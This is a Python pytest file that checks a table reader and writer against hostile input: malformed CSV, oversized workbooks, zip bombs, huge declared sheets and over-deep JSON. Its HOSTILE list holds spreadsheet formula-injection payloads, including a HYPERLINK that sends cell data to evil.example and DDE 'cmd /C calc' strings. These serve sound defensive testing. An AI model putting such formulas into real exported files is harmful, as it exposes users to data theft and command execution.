"""Hostile tables: unclosed quotes, oversized files and cells, spreadsheet formulas (issue 15)."""
import csv
import json
import time
import tracemalloc
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from planalign.corpora.tables import MAX_COLUMNS, Limits, TableError, TableTooLarge, is_formula_like, read_table, write_table

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)",
           "\tTAB=1", "\rCR=1"]


def test_unclosed_quote_is_refused_with_its_line(tmp_path):
    path = tmp_path / "q.csv"
    path.write_text('id,name\n1,ok\n2,"never closed\n3,merged\n4,merged too\n', encoding="utf-8")
    with pytest.raises(TableError, match=r"q\.csv: line 3: a quoted field .* never closed"):
        read_table(path)


def test_a_row_with_more_values_than_the_header_is_refused_with_its_line(tmp_path):
    path = tmp_path / "w.csv"
    path.write_text('id,name,org\nA1,ลอกท่อระบายน้ำ,เขตบางเขน\nA2,ก่อสร้างทางเท้า ยาว 1,250 เมตร,เขตบางเขน\n', encoding="utf-8")
    with pytest.raises(TableError, match=r"w\.csv: line 3: 4 fields but the header has 3 columns") as raised:
        read_table(path)
    assert "บรรทัดที่ 3" in raised.value.thai
    # empty extra fields, as spreadsheets export them, are no problem; quoted commas never were
    path.write_text('id,name,org\nA1,ลอกท่อระบายน้ำ,เขตบางเขน,,\nA2,"ก่อสร้างทางเท้า ยาว 1,250 เมตร",เขตบางเขน\n', encoding="utf-8")
    assert [r["name"] for r in read_table(path).rows] == ["ลอกท่อระบายน้ำ", "ก่อสร้างทางเท้า ยาว 1,250 เมตร"]


def test_quoted_newlines_still_read(tmp_path):
    path = tmp_path / "q.csv"
    path.write_text('id,name\n1,"two\nlines"\n2,plain\n', encoding="utf-8")
    assert [r["name"] for r in read_table(path).rows] == ["two\nlines", "plain"]


def test_messages_use_the_given_name_not_the_path(tmp_path):
    path = tmp_path / "upload.csv"
    path.write_text('id,name\n1,"x\n', encoding="utf-8")
    with pytest.raises(TableError) as raised:
        read_table(path, name="ของฉัน.csv")
    assert "ของฉัน.csv" in str(raised.value) and str(tmp_path) not in str(raised.value)


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".xlsx"])
def test_row_limit(tmp_path, suffix):
    path = tmp_path / f"rows{suffix}"
    write_table(path, ["id", "text"], [{"id": str(i), "text": f"ข้อความ {i}"} for i in range(30)])
    assert len(read_table(path, limits=Limits(max_rows=30)).rows) == 30
    with pytest.raises(TableTooLarge, match="more than 29 data rows"):
        read_table(path, limits=Limits(max_rows=29))


@pytest.mark.parametrize("suffix, row", [(".csv", 3), (".jsonl", 2), (".xlsx", 3)])  # a JSON-lines file's line: no header
def test_cell_limit_names_row_and_column(tmp_path, suffix, row):
    path = tmp_path / f"cells{suffix}"
    write_table(path, ["id", "name"], [{"id": "1", "name": "สั้น"}, {"id": "2", "name": "ก" * 5000}])
    with pytest.raises(TableTooLarge, match=rf"row {row}, column 'name': 5,000 characters, over the limit of 1,000"):
        read_table(path, limits=Limits(max_cell_chars=1000))


def test_large_workbook_is_refused_at_the_limit_without_loading_it(tmp_path):
    """The probe's 300,000-row workbook grew the server past 2 GB; reading now stops at the row limit.

    (The 300k-row upload itself, against a running server with its memory measured, is in ``make reliability``.)
    """
    path = tmp_path / "big.xlsx"
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(["id", "text"])
    for i in range(40_000):
        sheet.append([i, "x"])
    workbook.save(path)
    tracemalloc.start()
    with pytest.raises(TableTooLarge, match="more than 1,000 data rows"):
        read_table(path, limits=Limits(max_rows=1_000))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 20e6, peak


def test_zip_bomb_workbook_is_refused(tmp_path):
    path = tmp_path / "bomb.xlsx"
    write_table(path, ["id"], [{"id": "1"}])
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/padding.xml", b" " * 5_000_000, compress_type=zipfile.ZIP_DEFLATED)
    with pytest.raises(TableTooLarge, match="decompresses"):
        read_table(path, limits=Limits(max_inflated=1_000_000))  # an upload's limit
    assert read_table(path).rows  # a user's own file on the command line is read whole (117k reports in one workbook: 112 MB)


def test_formulas_are_neutralised_in_csv(tmp_path):
    path = tmp_path / "out.csv"
    write_table(path, ["text", "budget", "signed"], [{"text": t, "budget": 1500000.0, "signed": "-20"} for t in HOSTILE])
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert [r[0] for r in rows[1:]] == [f"'{t}" for t in HOSTILE]
    assert {r[1] for r in rows[1:]} == {"1500000.0"} and {r[2] for r in rows[1:]} == {"-20"}  # numbers untouched


def test_formulas_are_text_cells_in_xlsx_and_numbers_stay_numbers(tmp_path):
    path = tmp_path / "out.xlsx"
    write_table(path, ["text", "budget"], [{"text": t, "budget": 1500000.0} for t in HOSTILE] + [{"text": "ปกติ", "budget": -3}])
    sheet = load_workbook(path).active
    for row in list(sheet.iter_rows(min_row=2))[: len(HOSTILE)]:
        assert row[0].data_type == "s" and row[0].quotePrefix and row[0].value.lstrip("\t")[:1] in "=+-@CT"
        assert row[1].data_type == "n" and row[1].value == 1500000
    last = next(iter(sheet.iter_rows(min_row=len(HOSTILE) + 2)))
    assert last[0].value == "ปกติ" and not last[0].quotePrefix and last[1].value == -3
    with zipfile.ZipFile(path) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    # a control character before the formula is dropped as written: what is left is guarded (it was not: a security probe)
    write_table(path, ["text"], [{"text": '\x01=HYPERLINK("http://evil.example","x")'}])
    cell = next(iter(load_workbook(path).active.iter_rows(min_row=2)))[0]
    assert cell.value.startswith("=HYPERLINK") and cell.quotePrefix


def test_formula_detection():
    assert all(is_formula_like(t) for t in HOSTILE)
    assert not any(is_formula_like(t) for t in ("-20", "+66812345678", "1,500,000", "-1.5e3", "โครงการ", "", 5, None))


@pytest.mark.parametrize(("filename", "content", "limits"), [
    ("missing.csv", None, None),
    ("bad.csv.gz", b"not gzip at all", None),
    ("rows.csv", b"id,name\n1,a\n2,b\n3,c\n", Limits(max_rows=2)),
    ("cell.csv", ("id,name\n1," + "ก" * 50 + "\n").encode(), Limits(max_cell_chars=10)),
    ("twice.csv", b"id,name,name\n1,a,b\n", None),
    ("broken.jsonl", b'{"id": 1}\n{"id": \n', None),
    ("list.jsonl", b'[1, 2]\n', None),
    ("broken.json", b'{"rows": [', None),
    ("scalar.json", b'[1, 2]', None),
])
def test_every_refused_table_says_why_in_thai_naming_the_file(tmp_path, filename, content, limits):
    """The pages show ``message_th``: an English-only refusal left a Thai user with a generic error."""
    path = tmp_path / filename
    if content is not None:
        path.write_bytes(content)
    with pytest.raises(TableError) as raised:
        read_table(path, name=f"งาน-{filename}", limits=limits)
    assert raised.value.thai and f"งาน-{filename}" in raised.value.thai
    assert any("\u0e01" <= ch <= "\u0e5b" for ch in raised.value.thai)


def _with_sheet_xml(path, edit) -> None:
    """Rewrite the first sheet's XML of a saved workbook (a hostile file is one edit of a good one)."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["xl/worksheets/sheet1.xml"] = edit(parts["xl/worksheets/sheet1.xml"].decode()).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def test_a_workbook_declaring_a_huge_sheet_is_read_as_stored(tmp_path):
    """A 1.6 KB workbook declaring A1:XFD100000 with a row at 100,000 took 112 s of one request: every row was
    padded to 16,384 cells (a security probe). Rows are now as wide as their own cells."""
    path = tmp_path / "lie.xlsx"
    write_table(path, ["id", "name"], [{"id": "1", "name": "โครงการขุดลอกคลอง"}])
    _with_sheet_xml(path, lambda xml: xml.replace("<sheetViews>", '<dimension ref="A1:XFD100000"/><sheetViews>')
                    .replace("</sheetData>", '<row r="100000"><c r="A100000" t="inlineStr"><is><t>2</t></is></c></row></sheetData>'))
    started = time.perf_counter()
    table = read_table(path)
    assert time.perf_counter() - started < 10  # 100,000 x 16,384 cells took minutes
    assert table.columns == ["id", "name"] and [r["id"] for r in table.rows] == ["1", "2"] and table.sheet_rows == [2, 100000]
    # a row whose one cell is at XFD is 16,384 wide, and each check of a row walked it (40,000 such rows: 76 s, a blind review)
    far = tmp_path / "far.xlsx"
    write_table(far, ["id", "name"], [{"id": "1", "name": "โครงการขุดลอกคลอง"}])
    rows = "".join(f'<row r="{r}"><c r="XFD{r}" t="inlineStr"><is><t> </t></is></c></row>' for r in range(3, 20_003))
    _with_sheet_xml(far, lambda xml: xml.replace("</sheetData>", rows + '<row r="20003"><c r="A20003" t="inlineStr"><is><t>2</t></is></c>'
                                                 '</row></sheetData>'))
    started = time.perf_counter()
    assert [r["id"] for r in read_table(far).rows] == ["1", "2"]
    assert time.perf_counter() - started < 10  # 20,000 such rows took 21 s; the value under no header is not read


def test_a_table_of_thousands_of_columns_is_refused_and_json_too_deep_is_the_files_fault(tmp_path):
    """8,000 JSON lines of one distinct key each (351 KB) padded every row to 8,000 columns: 1.5 GB (a security probe)."""
    wide = tmp_path / "wide.jsonl"
    wide.write_text("\n".join(json.dumps({f"k{i}": "ขุดลอกคลอง"}) for i in range(MAX_COLUMNS + 1)), encoding="utf-8")
    with pytest.raises(TableTooLarge, match="more than 1,000 columns"):
        read_table(wide)
    header = tmp_path / "wide.csv"
    header.write_text(",".join(f"c{i}" for i in range(MAX_COLUMNS + 1)) + "\n" + ",".join("1" for _ in range(MAX_COLUMNS + 1)) + "\n")
    with pytest.raises(TableTooLarge, match="columns"):
        read_table(header)
    blanks = tmp_path / "blanks.csv"  # blank header cells are columns too, each padding every row (a blind review)
    blanks.write_text("name" + "," * (MAX_COLUMNS + 1) + "\nขุดลอกคลอง\n", encoding="utf-8")
    with pytest.raises(TableTooLarge, match="columns"):
        read_table(blanks)
    deep = tmp_path / "deep.jsonl"
    deep.write_text('{"a": ' + "[" * 100_000 + "]" * 100_000 + "}\n", encoding="utf-8")
    with pytest.raises(TableError, match="nested too deeply"):  # a 500 that blamed the service
        read_table(deep)


def test_two_writers_of_one_path_never_mix_their_rows(tmp_path):
    """Two uploads of one catalog id at once shared one temporary file and stored a mix of both (a security probe)."""
    from concurrent.futures import ThreadPoolExecutor

    path = tmp_path / "catalog.csv"
    versions = [[{"id": f"{tag}{i}", "name": f"{tag} {'ก' * 50} {i}"} for i in range(3000)] for tag in ("A", "B")]
    for _ in range(5):
        with ThreadPoolExecutor(2) as pool:
            list(pool.map(lambda rows: write_table(path, ["id", "name"], rows), versions))
        tags = {r["id"][0] for r in read_table(path).rows}
        assert len(tags) == 1 and len(read_table(path).rows) == 3000
